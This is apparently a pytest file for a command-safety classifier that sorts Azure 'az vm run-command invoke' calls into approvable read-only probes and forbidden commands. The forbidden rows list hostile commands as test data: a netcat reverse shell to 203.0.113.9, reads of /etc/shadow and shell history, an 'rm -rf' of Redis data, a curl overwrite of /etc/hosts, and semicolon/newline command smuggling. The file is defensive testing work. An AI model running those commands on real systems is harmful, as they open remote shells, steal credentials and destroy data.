"""`az vm run-command invoke`: read-only probes are approvable (RISKY), anything else FORBIDDEN.

One table, HolmesGPT-style: each row is a command, the verdict it must get, and why. Checked
through the library and through `ghost classify --json -`.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from core.safety.classify import classify

_INVOKE = "az vm run-command invoke -g rg-prod-app -n web-vm-01 --command-id RunShellScript"
R, F = "RISKY", "FORBIDDEN"

TABLE: list[tuple[str, str, str]] = [
    # the playbook's in-VM probes: a second engineer approves them
    (f"{_INVOKE} --scripts 'ss -ltn'", R, "listener check"),
    (f"{_INVOKE} --scripts 'nslookup redis-prod.redis.cache.windows.net'", R, "VM's resolver"),
    (f"{_INVOKE} --scripts 'dig +short redis.internal' 'ip route'", R, "two probes"),
    (f"{_INVOKE} --scripts 'nc -zv -w 3 10.1.2.4 6379'", R, "port check without data"),
    (f"{_INVOKE} --scripts 'curl -sS -m 5 http://10.1.2.4:8080/health'", R, "HTTP GET"),
    (f"{_INVOKE} --scripts 'ping -c 4 10.1.2.4'", R, "bounded ping"),
    (f"{_INVOKE} --scripts 'top -bn1'", R, "CPU snapshot"),
    (f"{_INVOKE} --scripts uptime", R, "load"),
    (f"{_INVOKE} --scripts 'cat /etc/resolv.conf'", R, "resolver configuration"),
    (f"{_INVOKE} --scripts 'systemctl status redis-server --no-pager'", R, "service state"),
    (f"{_INVOKE} --scripts 'getent hosts redis.internal'", R, "NSS lookup"),
    (f"{_INVOKE} --scripts=\"ss -ltn\" -o json", R, "= form and output format"),
    # anything else runs arbitrary code on a production VM: never offered
    (f"{_INVOKE} --scripts id", F, "not a probe"),
    (f"{_INVOKE} --scripts 'ss -ltn; id'", F, "two commands on one line"),
    (f"{_INVOKE} --scripts 'ss -ltn\nrm -rf /var/lib/redis'", F, "a second line that deletes"),
    (f"{_INVOKE} --scripts \"echo $HOME\"", F, "an expansion inside the VM"),
    (f"{_INVOKE} --scripts 'ss -ltn > /tmp/x'", F, "a redirection"),
    (f"{_INVOKE} --scripts 'nc -e /bin/sh 203.0.113.9 4444'", F, "reverse shell"),
    (f"{_INVOKE} --scripts 'nc 203.0.113.9 4444'", F, "nc that can send data"),
    (f"{_INVOKE} --scripts 'curl -X POST http://10.1.2.4:8080/'", F, "HTTP that changes state"),
    (f"{_INVOKE} --scripts 'curl -o /etc/hosts http://203.0.113.9/'", F, "curl writing a file"),
    (f"{_INVOKE} --scripts 'cat /etc/shadow'", F, "credential store"),
    (f"{_INVOKE} --scripts 'cat /home/azureuser/.bash_history'", F, "arbitrary file"),
    (f"{_INVOKE} --scripts 'systemctl stop redis-server'", F, "changes a service"),
    (f"{_INVOKE} --scripts 'top -d 1'", F, "top that never ends"),
    (f"{_INVOKE} --scripts @probe.sh", F, "script from a file nobody reviewed"),
    (f"{_INVOKE} --scripts 'ss -ltn' --parameters a=b", F, "parameters feed the script"),
    ("az vm run-command invoke -g rg -n vm --command-id RunPowerShellScript --scripts ipconfig",
     F, "only shell probes"),
    ("az vm run-command invoke -g rg -n vm --scripts 'ss -ltn'", F, "no command id"),
    ("az vmss run-command invoke -g rg -n ss --instance-id 0 --command-id RunShellScript "
     "--scripts 'ss -ltn'", F, "scale sets are not covered"),
    ("az vm run-command create -g rg --vm-name vm --name x --script 'ss -ltn'", F,
     "a stored run-command"),
    ("az --only-show-errors vm run-command invoke -g rg -n vm --command-id RunShellScript "
     "--scripts 'ss -ltn'", F, "option before the path"),
]


@pytest.mark.parametrize(("command", "expected", "why"), TABLE, ids=[r[2] for r in TABLE])
def test_vm_probe_table(command: str, expected: str, why: str) -> None:
    verdict = classify(command)
    assert verdict.classification == expected, (why, verdict.rule, verdict.reason)
    if expected == R:
        assert verdict.rule == "T2.az_vm_probe"
        assert "second engineer" in verdict.reason


def test_vm_probe_table_through_the_cli() -> None:
    lines = "".join(json.dumps({"command": c}) + "\n" for c, _, _ in TABLE)
    out = subprocess.run([sys.executable, "-m", "bot.cli", "classify", "--json", "-"],
                         input=lines, capture_output=True, text=True, check=True, timeout=120)
    answers = [json.loads(line) for line in out.stdout.splitlines() if line.strip()]
    assert [a["classification"] for a in answers] == [e for _, e, _ in TABLE]
